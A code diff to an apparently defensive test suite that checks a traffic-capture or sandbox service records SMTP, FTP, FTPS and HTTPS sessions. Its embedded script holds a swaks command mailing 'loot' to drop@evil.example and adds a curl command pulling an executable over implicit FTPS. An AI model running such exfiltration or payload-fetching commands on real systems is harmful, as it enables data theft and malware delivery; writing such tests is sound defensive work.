@@ -145,6 +145,7 @@ SCRIPT = r"""
 cd "$D"
 swaks --tls --server swaks.example --port 587 --auth LOGIN --auth-user swaksuser --auth-password 'swaks pw' --from a@victim.example --to drop@evil.example --header 'Subject: swaks loot' >swaks.out 2>swaks.err; echo $? >swaks.rc
 python3 clients.py
+curl -sS --max-time 20 -u implicituser:implicit-pw -o implicit.exe ftps://ftps990.example/pub/tool.exe; echo $? >ftps990.rc
 curl -sS --max-time 20 -o https.txt -w '%{local_port}' https://end.example/x.txt >https.port; echo $? >https.rc
 date +%s.%N >nmap.started
 nmap -Pn -n -sV -p PORTS -oG nmap.txt NMAP >nmap.out 2>nmap.err; echo $? >nmap.rc
@@ -250,8 +251,19 @@ def test_ftp_tls_with_prot_p_retrieves_and_uploads_over_tls(run):
     assert login["password"] == "tls pw" and tls_of(records, login["client"])["starttls"] is True
     (up,) = events(records, "ftp_upload", name="loot.bin")
     assert up["sha256"] == hashlib.sha256(b"secret over tls" * 100).hexdigest()
-    data = [r for r in records if r.get("event") == "tls" and r.get("ftp_data")]
+    data = [r for r in records if r.get("event") == "tls" and r.get("ftp_data")
+            and r["original_destination"] == login["original_destination"]]
     assert len(data) == 2 and all(r["result"] == "ok" for r in data), data
+
+
+def test_curl_over_implicit_tls_on_990_retrieves_a_pe_over_protected_data(run):
+    work, records, _ = run
+    assert (work / "ftps990.rc").read_text().strip() == "0" and is_pe((work / "implicit.exe").read_bytes())
+    login = one(records, "ftp", 990, "ftps990.example", user="implicituser")
+    assert "starttls" not in tls_of(records, login["client"])
+    data = [r for r in records if r.get("event") == "tls" and r.get("ftp_data")
+            and r["original_destination"] == login["original_destination"]]
+    assert data and data[0]["result"] == "ok", data
 
 
 @pytest.mark.parametrize("port, says, answer", [
